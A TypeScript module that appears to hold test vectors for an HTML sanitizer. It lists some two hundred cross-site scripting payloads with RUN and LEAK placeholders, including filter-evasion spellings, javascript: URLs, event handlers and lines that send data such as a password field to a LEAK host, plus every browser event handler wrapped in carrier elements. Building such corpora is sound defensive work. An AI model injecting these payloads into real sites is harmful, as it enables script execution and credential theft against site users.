import type {Writer} from './vectors.js';
import {lines} from './writers.js';

/** Elements that run, load or embed something, and spellings that pass a text filter. */
export const ELEMENTS: readonly Writer[] = lines(
  String.raw`
  <script>RUN</script>
  <SCRIPT>RUN</SCRIPT>
  <ScRiPt>RUN</sCrIpT>
  <script >RUN</script >
  <script/x>RUN</script/x>
  <script⏎>RUN</script⏎>
  <script␀>RUN</script>
  <scr␀ipt>RUN</scr␀ipt>
  <scr<script>ipt>RUN</scr</script>ipt>
  <<script>RUN//<</script>
  <script>RUN
  <script type=module>RUN</script>
  <script type=text/plain>RUN</script>
  <script nomodule>RUN</script>
  <script for=window event=onload>RUN</script>
  <script language=vbscript>RUN</script>
  <script><!--⏎RUN⏎//--></script>
  <script>/*<![CDATA[*/RUN/*]]>*/</script>
  <script>"</script><script>RUN//"</script>
  <script src=LEAK></script>
  <script src="data:text/javascript,RUN"></script>
  <script src=data:text/javascript;charset=utf-8,RUN></script>
  <script src="javascript:RUN"></script>
  <script async defer src=LEAK></script>
  <script type=importmap>{"imports":{"lit":"LEAK"}}</script>
  <script type=speculationrules>{"prefetch":[{"urls":["LEAK"]}]}</script>
  <script type=application/json>{"faq":[{"q":"<img src=x onerror=RUN>"}]}</script>
  <script type=text/yaml>about: <img src=x onerror=RUN></script>
  <noscript><img src=x onerror=RUN></noscript>
  <iframe src="javascript:RUN"></iframe>
  <iframe src="javascript:RUN">
  <iframe srcdoc="<script>RUN</script>"></iframe>
  <iframe srcdoc="&lt;img src=x onerror=RUN&gt;"></iframe>
  <iframe onload=RUN></iframe>
  <iframe src=LEAK></iframe>
  <iframe src=LEAK sandbox="allow-scripts allow-same-origin allow-top-navigation"></iframe>
  <iframe name=RUN src="data:text/html,<script>parent.eval(name)</script>"></iframe>
  <frameset onload=RUN>
  <frameset><frame src="javascript:RUN"></frameset>
  <frame src=LEAK>
  <fencedframe src=LEAK></fencedframe>
  <portal src=LEAK onload=RUN></portal>
  <webview src="javascript:RUN"></webview>
  <object data="javascript:RUN"></object>
  <object data="data:text/html,<script>RUN</script>"></object>
  <object data=LEAK type=text/html></object>
  <object classid=LEAK><param name=src value="javascript:RUN"></object>
  <object onerror=RUN data=x:></object>
  <embed src="javascript:RUN">
  <embed src="data:text/html,<script>RUN</script>">
  <embed src=LEAK onload=RUN>
  <applet code=x archive=LEAK onerror=RUN></applet>
  <body onload=RUN>
  <body onpageshow=RUN>
  <body onhashchange=RUN><a href=#x>x</a>
  <html onmouseover=RUN><head><body>x
  <base href="javascript:RUN//"><a href=x>x</a>
  <base href=LEAK/><img src=y><a href=x>x</a>
  <base target="RUN"><a href=/x>x</a>
  <meta http-equiv=refresh content="0;url=javascript:RUN">
  <meta http-equiv=refresh content="0;url=LEAK">
  <meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">
  <meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">
  <meta http-equiv=Set-Cookie content="a=<script>RUN</script>">
  <meta charset=utf-7>+ADw-script+AD4-RUN+ADw-/script+AD4-
  <meta name=referrer content=unsafe-url>
  <link rel=stylesheet href="javascript:RUN">
  <link rel=stylesheet href=LEAK onload=RUN>
  <link rel=import href=LEAK>
  <link rel=preload as=script href=LEAK>
  <link rel=modulepreload href=LEAK>
  <link rel=prefetch href=LEAK>
  <link rel=dns-prefetch href=LEAK>
  <link rel=icon href=LEAK>
  <link rel=manifest href=LEAK>
  <template><script>RUN</script><img src=x onerror=RUN></template>
  <div><template shadowrootmode=open><img src=x onerror=RUN></template></div>
  <div><template shadowrootmode=closed><style>@import "LEAK"</style></template></div>
  <form action="javascript:RUN"><button>x</button></form>
  <form action=LEAK method=post><input name=password type=password><button>x</button></form>
  <form id=f></form><button form=f formaction="javascript:RUN">x</button>
  <form><input type=submit formaction="javascript:RUN" value=x></form>
  <form><input type=image src=LEAK formaction="javascript:RUN"></form>
  <form><button formaction=LEAK formmethod=post>x</button><textarea name=x>
  <input autofocus onfocus=RUN>
  <input type=image src=x onerror=RUN>
  <input type=hidden accesskey=x onclick=RUN>
  <input type=hidden type=image src=LEAK>
  <input type=checkbox onclick=RUN checked><input type=checkbox onchange=RUN>
  <select autofocus onfocus=RUN><option>x</select>
  <select><option><style></option></select><img src=x onerror=RUN></style>
  <textarea autofocus onfocus=RUN>x</textarea>
  <keygen autofocus onfocus=RUN>
  <isindex action="javascript:RUN" type=image>
  <button popovertarget=p onclick=RUN>x</button><div id=p popover onbeforetoggle=RUN>y</div>
  <button command=show-modal commandfor=d>x</button><dialog id=d onclose=RUN>y</dialog>
  <dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>
  <details open ontoggle=RUN><summary>x</summary>y</details>
  <video src=x onerror=RUN></video>
  <video poster="javascript:RUN"></video>
  <video><source onerror=RUN src=x></video>
  <video autoplay onloadstart=RUN src=LEAK></video>
  <audio src=x onerror=RUN></audio>
  <audio autoplay controls src=LEAK><track default src=LEAK oncuechange=RUN></audio>
  <picture><source srcset=LEAK><img src=x onerror=RUN></picture>
  <marquee onstart=RUN>x</marquee>
  <marquee loop=1 width=0 onfinish=RUN>x</marquee>
  <bgsound src="javascript:RUN">
  <layer src=LEAK></layer>
  <ilayer src=LEAK></ilayer>
  <xml id=x><img src=x onerror=RUN></xml>
  <xml src=LEAK></xml><span datasrc=#x datafld=a dataformatas=html></span>
  <canvas onclick=RUN>x</canvas>
  <map name=m><area href="javascript:RUN" shape=default></map><img usemap=#m src=x>
  <img src=x onerror=RUN>
  <img src=x onerror="RUN">
  <img src=x onerror='RUN'>
  <img src=x onerror=RUN//
  <img src=x onerror=RUN<b>x</b>
  <img/src=x/onerror=RUN>
  <img src=x:x onerror=RUN>
  <img src onerror=RUN>
  <img src="x"onerror="RUN">
  <img/"/src=x onerror=RUN>
  <img """><script>RUN</script>">
  <img src="x` +
    '`' +
    String.raw` <script>RUN</script>"` +
    '`' +
    String.raw` >
  <img src=x on␀error=RUN>
  <img src=x onerror␀=RUN>
  <img src=x ONERROR=RUN>
  <img src=x onerror⏎=⏎RUN>
  <img src=x onerror=&#112;arent.hit&lpar;0&rpar;,RUN>
  <img src=x onerror="javascript:RUN">
  <img src=x onerror="eval(this.alt)" alt="RUN">
  <img src=data:image/svg+xml,<svg/onload=RUN>>
  <img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>">
  <img src="javascript:RUN">
  <img dynsrc="javascript:RUN" lowsrc="javascript:RUN">
  <img longdesc="javascript:RUN" src=x>
  <img srcset="x 1x, x 2x" onerror=RUN>
  <image src=x onerror=RUN>
  <image href=x onerror=RUN>
  <a href=# onclick=RUN>x</a>
  <a href="javascript:RUN" target=_top>x</a>
  <a href=/x download ping=LEAK attributionsrc=LEAK>x</a>
  <a onfocus=RUN autofocus tabindex=0 href=/x>x</a>
  <a/href=javascript:RUN>x</a>
  <a href='javascript:RUN'>x</a>
  <a href=javascript:RUN>x</a>
  <a href="x" href="javascript:RUN">x</a>
  <a⏎href⏎=⏎"javascript:RUN">x</a>
  <b <script>RUN</script>x</b>
  <p title="</p><script>RUN</script>">x
  <p title='"><img src=x onerror=RUN>'>x
  <p x="` +
    '`' +
    String.raw`" y='` +
    '`' +
    String.raw`><img src=x onerror=RUN>'>x
  <x onclick=RUN tabindex=1 autofocus onfocus=RUN>x</x>
  <x-evil onclick=RUN>x</x-evil>
  <div contenteditable onblur=RUN autofocus>x</div>
  <div style="x:expression(RUN)">x</div>
  <div style="behavior:url(LEAK)">x</div>
  <div style="-moz-binding:url(LEAK#x)">x</div>
  <div onclick=RUN style="position:fixed;inset:0">x</div>
  <div itemscope itemtype=LEAK itemid="javascript:RUN">x</div>
  <div xmlns="http://www.w3.org/1999/xhtml" xml:base="javascript:RUN//">x</div>
  <o:p onclick=RUN>x</o:p>
  <?xml-stylesheet href="javascript:RUN"?><x>
  <?php echo '<script>RUN</script>' ?>
  <% <script>RUN</script> %>
  <!--[if IE]><script>RUN</script><![endif]-->
  <!--><script>RUN</script>-->
  <!---><script>RUN</script>-->
  <!-- --!><script>RUN</script>-->
  <!-- <!-- --><script>RUN</script>
  <!doctype html><script>RUN</script>
  <!DOCTYPE x [<!ENTITY y SYSTEM "LEAK">]><z>&y;</z>
  <!x "><script>RUN</script>
  </x "><script>RUN</script>
  <![CDATA[<script>RUN</script>]]>
  <![><img src="]><img src=x onerror=RUN//">
  &lt;script&gt;RUN&lt;/script&gt;
  &amp;lt;script&amp;gt;RUN&amp;lt;/script&amp;gt;
  \u003cscript\u003eRUN\u003c/script\u003e
  \x3cscript\x3eRUN\x3c/script\x3e
  %3Cscript%3ERUN%3C/script%3E
  ＜script＞RUN＜/script＞
  {{constructor.constructor('RUN')()}}
  \${RUN}
  #{RUN}
  '"--></style></script><script>RUN</script>
  javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+RUN//'>
  "onclick=RUN//<button ' onclick=RUN//> */ RUN//
`,
);

const EVENTS =
  'abort activate afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload beforexrselect begin blur bounce cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextlost contextmenu contextrestored copy cuechange cut dblclick dragend dragenter dragleave dragover dragstart drop durationchange emptied end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata loadend loadstart location lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter pointermove pointerout pointerover pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange rejectionhandled repeat reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkitfullscreenchange webkitmouseforcechanged webkittransitionend wheel zoom';

/** Elements with a handler: kept, unwrapped and removed ones. */
const CARRIERS: readonly ((handler: string) => string)[] = [
  handler => `<p ${handler}>x</p>`,
  handler => `<img src=x ${handler} alt=y>`,
  handler => `<a href=/x ${handler}>x</a>`,
  handler => `<details open ${handler}><summary ${handler}>x</summary></details>`,
  handler => `<td ${handler}>x</td>`,
  handler => `<button ${handler}>x</button>`,
  handler => `<svg ${handler}></svg>`,
  handler => `<video src=x ${handler}></video>`,
];

/** Every event handler that a browser knows or has known, in turn. */
export const HANDLERS: readonly Writer[] = EVENTS.split(' ').map(
  (event, i) => run => (CARRIERS[i % CARRIERS.length] ?? String)(`on${event}="${run}" tabindex=0`),
);
